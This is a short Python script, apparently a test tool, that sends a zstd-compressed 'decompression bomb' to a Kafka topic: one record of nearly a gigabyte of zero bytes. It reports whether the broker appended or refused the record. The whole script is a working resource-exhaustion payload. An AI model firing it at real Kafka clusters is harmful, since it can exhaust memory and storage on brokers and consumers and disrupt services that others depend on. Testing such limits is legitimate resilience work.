#!/usr/bin/env python3
"""A decompression bomb as librdkafka sends it: one record of SIZE zero bytes, compressed with zstd, to
partition 0 of TOPIC. librdkafka takes no record larger than its message.max.bytes, at most
1,000,000,000 bytes with the record's framing, so the bomb is just under that, not 2 GiB. Prints what became of it: "appended PARTITION OFFSET", or
"refused ERROR_NAME: reason".

Usage: zstd_bomb.py BOOTSTRAP TOPIC KEY SIZE
"""
import sys

from confluent_kafka import Producer


def main(bootstrap, topic, key, size):
    producer = Producer({
        "bootstrap.servers": bootstrap,
        "compression.codec": "zstd",
        "message.max.bytes": 1000000000,
        "acks": "all",
    })
    outcome = []

    def delivered(error, message):
        if error is None:
            outcome.append("appended %d %d" % (message.partition(), message.offset()))
        else:
            outcome.append("refused %s: %s" % (error.name(), error.str()))

    producer.produce(topic, key=key.encode(), value=bytes(size), partition=0, on_delivery=delivered)
    producer.flush(120)
    print(outcome[0] if outcome else "no delivery report within 120 s")


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]))
